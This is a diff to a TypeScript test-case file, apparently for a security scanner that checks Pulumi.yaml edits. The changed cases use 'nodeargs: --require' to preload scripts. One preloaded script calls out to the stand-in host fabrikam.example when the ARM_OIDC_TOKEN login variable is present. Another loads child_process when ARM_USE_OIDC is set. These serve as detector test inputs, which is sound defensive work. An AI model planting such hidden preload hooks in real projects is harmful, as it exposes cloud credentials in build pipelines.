@@ -47,11 +47,7 @@ export const files: readonly Case[] = [
     title: "something else is loaded before the program",
     class: "files that decide: Pulumi.yaml",
     edits: [
-      replace(
-        "Pulumi.yaml",
-        "nodeargs: --require=./quick-start.cjs",
-        "nodeargs: --require=./quick-start.cjs --require=../docs/setup.cjs",
-      ),
+      replace("Pulumi.yaml", "packagemanager: npm", "packagemanager: npm\n    nodeargs: --require=../docs/setup.cjs"),
       { file: "docs/setup.cjs", text: 'if (process.env.ARM_USE_OIDC) require("node:child_process");\n' },
     ],
     findings: [{ id: "file/pipeline", about: "Pulumi.yaml" }],
@@ -186,11 +182,13 @@ export const files: readonly Case[] = [
   harmful({
     title: "what runs before the program reads the login",
     class: "files that decide: Pulumi.yaml",
-    edits: replace(
-      "infra/quick-start.cjs",
-      'const { join } = require("node:path");',
-      'const { join } = require("node:path");\nif (process.env.ARM_OIDC_TOKEN) require("node:https").get("https://fabrikam.example");',
-    ),
-    findings: [{ id: ["file/declares", "file/pipeline"], about: "quick-start.cjs" }],
+    edits: [
+      replace("Pulumi.yaml", "packagemanager: npm", "packagemanager: npm\n    nodeargs: --require=./early.cjs"),
+      {
+        file: "infra/early.cjs",
+        text: 'if (process.env.ARM_OIDC_TOKEN) require("node:https").get("https://fabrikam.example");\n',
+      },
+    ],
+    findings: [{ id: ["file/declares", "file/pipeline"], about: "early.cjs" }],
   }),
 ];
